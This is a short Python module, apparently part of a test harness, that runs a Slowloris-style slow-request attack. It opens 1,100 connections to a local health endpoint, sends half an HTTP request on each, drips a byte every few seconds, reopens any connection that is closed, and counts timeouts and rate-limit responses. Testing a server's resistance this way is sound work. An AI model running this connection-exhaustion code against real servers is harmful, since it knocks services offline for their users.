"""1,100 connections send half a request each and wait. Counts `opened`, `status 408`, `status 429`, `closed`."""

import asyncio

from hostile.attacker import Target

CONNECTIONS = 1100
HALF = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "


async def attack(target: Target) -> None:
    await hold_open(target, HALF)


async def hold_open(target: Target, begin: bytes, drip: bytes = b"a") -> None:
    """Opens all connections, and again what the server closes; each sends a byte now and then."""

    async def one() -> None:
        while True:
            try:
                reader, writer = await target.connect()
            except OSError:
                target.count("not connected")
                await asyncio.sleep(1)
                continue
            target.count("opened")
            answer = asyncio.create_task(target.status(reader))
            try:
                writer.write(begin)
                while not answer.done():
                    await asyncio.wait({answer}, timeout=3)
                    writer.write(drip)
            except ConnectionError:
                pass
            await answer
            writer.close()
            await asyncio.sleep(0.5)

    await asyncio.gather(*(one() for _ in range(CONNECTIONS)))
